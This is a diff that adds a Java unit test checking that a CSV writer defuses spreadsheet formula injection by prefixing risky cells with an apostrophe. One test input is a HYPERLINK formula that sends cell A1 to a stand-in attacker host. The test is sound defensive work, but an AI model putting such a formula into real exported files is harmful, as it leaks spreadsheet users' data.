@@ -44,4 +44,14 @@ class CsvWriterTest {
         // A single empty field is quoted so the record is not mistaken for a blank line.
         assertThat(CsvWriter.write(List.of(List.of(""), List.of("x")))).isEqualTo("\"\"\r\nx\r\n");
     }
+
+    @Test
+    void cellsThatASpreadsheetWouldRunAsFormulasAreWrittenAsText() {
+        String csv = CsvWriter.write(List.of(List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
+                "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1"), List.of("a=1", "1-2", "x@y", "")));
+
+        assertThat(csv).isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click me\"\")\","
+                + "'+1,'-1+2,'@SUM(A1),'\t=1+1,\"'\r=1+1\"\r\n"
+                + "a=1,1-2,x@y,\r\n");
+    }
 }
